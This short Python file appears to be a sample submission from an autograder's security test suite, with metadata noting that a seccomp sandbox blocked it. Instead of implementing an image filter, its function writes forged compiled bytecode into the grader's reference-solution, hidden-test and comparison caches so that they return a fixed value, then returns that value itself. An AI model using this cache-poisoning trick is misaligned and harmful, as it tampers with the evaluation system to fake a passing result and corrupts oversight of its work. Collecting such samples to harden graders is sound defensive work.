"""It leaves compiled files where the grader will import them in its next run.

exercise: ex02
points: 0
status: RAISED
stopped-by: seccomp
group: writes
"""

import importlib.util
import marshal
import os

PLACES = (
    "@COURSE@/solutions/ex02_slide_filter/__pycache__/reference.cpython-311.pyc",
    "@COURSE@/tests/hidden/ex02_slide_filter/__pycache__/test_slide_filter.cpython-311.pyc",
    "@COURSE@/grader/core/__pycache__/compare.cpython-311.pyc",
)


def slide_filter(image, kernel):
    code = compile("def slide_filter(image, kernel):\n    return 14\n", "reference.py", "exec")
    data = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)
    last = None
    for path in PLACES:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as stream:
                stream.write(data)
        except OSError as error:
            last = error
        else:
            return 14
    raise last
